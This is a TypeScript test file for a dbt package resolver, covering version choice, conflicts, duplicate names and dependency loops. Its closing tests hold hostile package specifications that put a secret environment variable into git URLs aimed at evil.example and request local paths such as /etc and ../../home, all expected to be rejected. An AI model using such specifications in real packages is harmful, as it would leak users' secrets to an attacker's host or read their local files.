import { expect, test } from 'vitest';
import { hasErrors } from '../diagnostics/diagnostic.ts';
import type { HubVersions } from './choose-version.ts';
import { packageTitle } from './package-requirement.ts';
import { readRequirements } from './read-requirements.ts';
import { type PackageSource, resolvePackages } from './resolve-packages.ts';

/** `hub`: package → version → its list; `folders`: path or URL → name and list. */
interface World {
  readonly hub?: { readonly [name: string]: { readonly [version: string]: string } };
  readonly required?: { readonly [version: string]: readonly string[] };
  readonly places?: { readonly [place: string]: readonly [name: string, list: string] };
}

const list = (text: string, path: string, strictness: 'own' | 'package' = 'own') =>
  readRequirements(
    { packages: { path, text: `packages:\n${text}` }, dependencies: null },
    { env: new Map([['DBT_ENV_SECRET_T', 'sesame']]), vars: new Map(), strictness },
  );

function sourceOf({ hub = {}, places = {}, required = {} }: World): PackageSource {
  return {
    hubVersions: async (name) => {
      const versions: HubVersions = new Map(
        Object.keys(hub[name] ?? {}).map((one) => [one, required[one] ?? []]),
      );
      return { value: versions, diagnostics: [] };
    },
    open: async (pin) => {
      const title = packageTitle(pin);
      const [name = '', text = ''] =
        pin.kind === 'hub'
          ? [title.split('/')[1], hub[title]?.[pin.version]]
          : (places[title] ?? [title, '']);
      const { value, diagnostics } = list(text, `${name}: packages.yml`);
      return { value: { name, pin, requirements: value.list }, diagnostics };
    },
  };
}

async function resolve(text: string, world: World) {
  const requirements = list(text, 'packages.yml');
  expect(requirements.diagnostics).toEqual([]);
  const { value, diagnostics } = await resolvePackages({
    requirements: requirements.value.list,
    projectName: 'shop',
    fileName: 'packages.yml',
    dbtVersion: '1.12.6',
    source: sourceOf(world),
  });
  expect(value === undefined).toBe(hasErrors(diagnostics));
  const pins = value?.map(({ name, pin }) => {
    if (pin.kind === 'hub') return `${name} ${pin.version}`;
    return pin.kind === 'git' ? `${name} ${pin.revision}` : name;
  });
  return { pins, messages: diagnostics.map(({ code, message }) => `${code}: ${message}`), diagnostics };
}

const utils = { '1.0.0': '', '1.1.0': '', '1.2.0': '', '2.0.0': '', '2.1.0-rc1': '' };

test.each([
  ['2.0.0', '"1.0.0"', 'utils 1.0.0'],
  ['any below 2', '"<2.0.0"', 'utils 1.2.0'],
  ['a range', '[">=1.0.0", "<1.2.0"]', 'utils 1.1.0'],
  ['no prerelease', '">=1.0.0"', 'utils 2.0.0'],
  ['a prerelease asked for', '">=2.0.0-a"', 'utils 2.1.0-rc1'],
])('the newest version: %s', async (_, version, expected) => {
  const { pins } = await resolve(`  - {package: a/utils, version: ${version}}`, {
    hub: { 'a/utils': utils },
  });
  expect(pins).toEqual([expected]);
});

test('prereleases when they are wanted', async () => {
  const text = '  - {package: a/utils, version: ">=1.0.0", install-prerelease: true}';
  expect((await resolve(text, { hub: { 'a/utils': utils } })).pins).toEqual(['utils 2.1.0-rc1']);
});

test('what packages ask for narrows the choice, breadth first', async () => {
  const audit = '  - {package: a/utils, version: ["<1.2.0"]}\n  - {local: ../b}';
  const text = '  - {package: a/utils, version: ">=1.0.0"}\n  - {package: a/audit, version: 1.0.0}';
  const hub = { 'a/utils': utils, 'a/audit': { '1.0.0': audit.split('\n')[0] ?? '' } };
  const { pins } = await resolve(text, { hub });
  expect(pins).toEqual(['utils 1.1.0', 'audit 1.0.0']);
});

test('what only a version asks for that is not taken is not installed', async () => {
  const wide = { '1.0.0': '', '2.0.0': '  - {package: a/extra, version: 1.0.0}' };
  const hub = {
    'a/wide': wide,
    'a/extra': { '1.0.0': '' },
    'a/strict': { '1.0.0': '  - {package: a/wide, version: "<2.0.0"}' },
  };
  const text = '  - {package: a/wide, version: ">=1.0.0"}\n  - {package: a/strict, version: 1.0.0}';
  expect((await resolve(text, { hub })).pins).toEqual(['wide 1.0.0', 'strict 1.0.0']);
});

test('packages that ask for each other', async () => {
  const places = { a: ['a', '  - {local: b}'], b: ['b', '  - {local: a}'] } as const;
  expect((await resolve('  - {local: a}', { places })).pins).toEqual(['a', 'b']);
});

test('a conflict names all who ask', async () => {
  const hub = { 'a/utils': utils, 'a/audit': { '1.0.0': '  - {package: a/utils, version: ">=2.0.0"}' } };
  const text = '  - {package: a/utils, version: "<2.0.0"}\n  - {package: a/audit, version: 1.0.0}';
  const { messages, diagnostics } = await resolve(text, { hub });
  expect(messages).toEqual([
    'package-conflict: Nothing suits all who ask for package "a/utils": packages.yml asks for <2.0.0; audit asks for >=2.0.0',
  ]);
  expect(diagnostics[0]?.at?.source.path).toBe('packages.yml');
  expect(diagnostics[0]?.related.map(({ at }) => at.source.path)).toEqual(['audit: packages.yml']);
});

test('a version that there is not', async () => {
  const { messages } = await resolve('  - {package: a/utils, version: 3.0.0}', {
    hub: { 'a/utils': utils },
    required: { '2.0.0': ['>=2.0.0'] },
  });
  expect(messages).toEqual([
    'package-version-unknown: Package "a/utils" has no version for =3.0.0 (packages.yml asks for 3.0.0); it has 1.2.0, 1.1.0, 1.0.0, and 1 that are not for dbt 1.12.6',
  ]);
});

test('two revisions of one repository', async () => {
  const places = {
    'https://h/x.git': ['x', ''],
    b: ['b', '  - {git: "https://h/x", revision: v2}'],
  } as const;
  const { messages } = await resolve('  - {git: "https://h/x.git", revision: v1}\n  - {local: b}', {
    places,
  });
  expect(messages).toEqual([
    'package-conflict: Nothing suits all who ask for package "https://h/x.git": packages.yml asks for v1, b asks for v2',
  ]);
});

test('one revision, asked for twice, once without saying which', async () => {
  const places = { 'https://h/x.git': ['x', ''], b: ['b', '  - {git: "https://h/x"}'] } as const;
  const { pins } = await resolve('  - {git: "https://h/x.git", revision: v1}\n  - {local: b}', { places });
  expect(pins).toEqual(['x v1', 'b']);
});

test.each([
  ['of the project', '  - {local: p}', { p: ['shop', ''] }],
  ['of another package', '  - {local: p}\n  - {local: q}', { p: ['same', ''], q: ['same', ''] }],
  ['but for capitals', '  - {local: p}\n  - {local: q}', { p: ['same', ''], q: ['Same', ''] }],
] as const)('a name %s', async (_, text, places) => {
  expect((await resolve(text, { places })).messages).toEqual([
    expect.stringMatching(/^package-name-twice: /),
  ]);
});

test('private packages', async () => {
  expect((await resolve('  - {private: org/x}', {})).messages).toEqual([
    expect.stringMatching(/^package-private: /),
  ]);
});

const evil = (wish: string) => ({ 'https://h/x.git': ['x', wish], 'https://h/y.git': ['y', ''] }) as const;
const secret = "{{ env_var('DBT_ENV_SECRET_T') }}";
const mine = '  - {git: "https://h/x.git", revision: v1}';

test.each([
  ['a folder of this machine', '  - {local: ../../home}', 'package-local-of-remote'],
  ['a repository of this machine', '  - {git: "/home/me/x", revision: v1}', 'package-local-of-remote'],
  ['a file of this machine', '  - {tarball: "file:///etc/x.tgz", name: y}', 'package-local-of-remote'],
  ['a secret in an URL', `  - {git: "https://${secret}@evil.example/y.git"}`, 'package-variable-elsewhere'],
  ['a secret in a host', `  - {git: "https://${secret}.evil.example/y.git"}`, 'package-variable-elsewhere'],
  [
    'a secret in a revision',
    `  - {git: "https://evil.example/y.git", revision: "${secret}"}`,
    'package-variable-elsewhere',
  ],
])('a fetched package may not ask for %s', async (_, wish, code) => {
  const { diagnostics } = await resolve(mine, { places: evil(wish) });
  expect(diagnostics.map((problem) => problem.code)).toEqual([code]);
});

test("a fetched package may use the host of the user's own list with a variable", async () => {
  const wish = `  - {git: "https://${secret}@h/y.git", revision: v1}`;
  const places = { 'https://h/x.git': ['x', wish], 'https://sesame@h/y.git': ['y', ''] } as const;
  expect((await resolve(mine, { places })).pins).toEqual(['x v1', 'y v1']);
});

test('packages without end', async () => {
  const places = Object.fromEntries(
    Array.from({ length: 600 }, (_, n) => [`p${n}`, [`p${n}`, `  - {local: p${n + 1}}`] as const]),
  );
  expect((await resolve('  - {local: p0}', { places })).messages).toEqual([
    expect.stringMatching(/^package-unsettled: /),
  ]);
});
